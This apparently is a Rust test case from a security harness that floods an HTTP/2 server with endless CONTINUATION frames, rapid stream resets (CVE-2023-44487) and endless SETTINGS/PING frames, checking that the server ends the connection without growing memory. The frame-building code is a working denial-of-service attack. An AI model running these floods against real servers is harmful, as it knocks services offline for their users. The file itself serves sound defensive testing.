//! Heads of requests without end, over HTTP/2.
//!
//! **Who:** somebody who reaches the console. **Tries:** begins a head and goes on with CONTINUATION for ever (VU#421644); opens streams and
//! resets them at once (CVE-2023-44487); announces settings and pings without end. **Must hold:** the connection is ended, memory
//! does not grow, and others are answered.

use std::time::{Duration, Instant};

use serde_json::json;
use tokio::io::AsyncWriteExt as _;

use super::USUAL;
use crate::{Attack, Figures, Made, Outcome, Scene, elsewhere, figures, objection};

/// How long each goes on at most.
const FOR: Duration = Duration::from_secs(3);
/// Most bytes of one connection that are taken before it is ended.
const MOST: usize = 64 << 20;

/// The attack.
pub(super) const ATTACK: Attack = Attack {
    name: "heads-without-end",
    tries: "somebody sends heads without end, or begins and resets requests without end, over HTTP/2",
    bounds: USUAL,
    make: |scene| Box::pin(send(scene)) as Made<'_>,
};

/// A frame of HTTP/2 (RFC 9113 §4.1).
fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let [_, a, b, c] = u32::try_from(payload.len()).unwrap_or_default().to_be_bytes();
    let mut bytes = vec![a, b, c, kind, flags];
    bytes.extend(stream.to_be_bytes());
    bytes.extend(payload);
    bytes
}

async fn send(scene: &Scene) -> Outcome<Figures> {
    let browser = scene.browser()?;
    let mut taken = Vec::new();
    for kind in 0..3u8 {
        let mut stream = browser.open(elsewhere()).await?;
        let begins = [b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".to_vec(), frame(4, 0, 0, &[])].concat();
        stream.write_all(&begins).await?;
        let (since, mut bytes, mut number) = (Instant::now(), 0, 1u32);
        // A literal field, never indexed (RFC 7541 §6.2.3): "x: xxx…".
        let mut field = vec![0x10, 1, b'x', 0x7f, 0x80, 0x3e];
        field.resize(field.len() + 0x7f + 0x1f00, b'x');
        if kind == 0 {
            stream.write_all(&frame(1, 0, 1, &field)).await?;
        }
        while since.elapsed() < FOR && bytes < MOST {
            let some = match kind {
                0 => frame(9, 0, 1, &field),
                // :method GET, :scheme https, :path /, all of the static table, and at once RST_STREAM with CANCEL.
                1 => [frame(1, 5, number, &[0x82, 0x87, 0x84]), frame(3, 0, number, &[0, 0, 0, 8])].concat(),
                _ => [frame(4, 0, 0, &[0, 3, 0, 0, 0, 9]), frame(6, 0, 0, &[9; 8])].concat(),
            };
            number = number.saturating_add(2);
            match tokio::time::timeout(FOR, stream.write_all(&some)).await {
                Ok(Ok(())) => bytes += some.len(),
                // Ended, or taken no more.
                _ => break,
            }
        }
        if bytes >= MOST {
            return objection(
                "an end of a connection that goes on without end",
                format!("{bytes} bytes taken"),
            );
        }
        taken.push(bytes);
    }
    Ok(figures([("bytes_taken", json!(taken))]))
}
